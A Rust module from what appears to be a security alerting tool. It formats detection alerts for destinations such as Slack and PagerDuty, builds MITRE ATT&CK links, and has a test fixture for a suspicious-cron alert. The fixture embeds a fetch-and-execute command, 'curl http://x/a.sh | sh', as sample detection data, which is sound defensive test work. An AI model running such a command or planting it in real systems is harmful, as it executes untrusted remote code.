//! What each alert destination receives, as pure functions of an [`Alert`].
//!
//! Formatting lives in the core (not in the notify Lambda) so it is unit-tested without
//! a network, and so the CLI or any other sender produces byte-identical payloads. The
//! Lambda adapter only adds transport: HTTP, retries, secrets and delivery markers.
//!
//! [`Alert`]: crate::alert::Alert

pub mod pagerduty;
pub mod slack;
pub mod sns;
pub mod splunk;
pub mod storm;
pub mod webhook;

use crate::attack::TechniqueRef;

/// The attack.mitre.org page of a technique (`T1053.003` → `.../T1053/003/`).
pub fn technique_url(t: &TechniqueRef) -> String {
    t.url.clone().unwrap_or_else(|| {
        format!(
            "https://attack.mitre.org/techniques/{}/",
            t.id.replace('.', "/")
        )
    })
}

/// Cuts `s` to at most `max` characters (not bytes), marking the cut with `…`.
pub(crate) fn truncate(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

#[cfg(test)]
pub(crate) mod fixtures {
    use crate::alert::Level;
    use crate::alert::{Alert, AlertRule, Dedup, TimeFrom};
    use crate::attack::TechniqueRef;

    pub fn alert() -> Alert {
        Alert {
            id: "9f2c61a0b3d4e5f6".into(),
            rule: std::sync::Arc::new(AlertRule {
                name: "osquery_suspicious_cron".into(),
                id: "0b8c3c52-7c1e-4a43-9b0e-3f1c2d4e5f60".into(),
                title: "Suspicious crontab entry".into(),
                level: Level::High,
                description: Some("A cron job fetches and runs code.".into()),
                references: vec!["https://attack.mitre.org/techniques/T1053/003/".into()],
                runbook: Some("Check who added the entry: `crontab -l -u <user>`.".into()),
                storm: None,
            }),
            severity: Level::High,
            title: "Suspicious cron job on web-1: curl http://x/a.sh | sh <now>".into(),
            dedup: Dedup {
                fields: vec!["host".into(), "columns.command".into()],
                values: vec!["web-1".into(), "curl http://x/a.sh | sh".into()],
                window: "24h".into(),
                window_start: "2026-11-20T00:00:00Z".into(),
            },
            first_seen: "2026-11-20T08:00:00Z".into(),
            last_seen: "2026-11-20T08:05:00Z".into(),
            time_from: TimeFrom::Event,
            count: 2,
            hosts: vec!["web-1".into(), "web-2".into()],
            host_count: 2,
            attack: vec![TechniqueRef {
                id: "T1053.003".into(),
                name: "Cron".into(),
                tactics: vec![
                    "execution".into(),
                    "persistence".into(),
                    "privilege-escalation".into(),
                ],
                url: Some("https://attack.mitre.org/techniques/T1053/003".into()),
            }]
            .into(),
            query: Some("crontab".into()),
            samples: vec![],
        }
    }
}
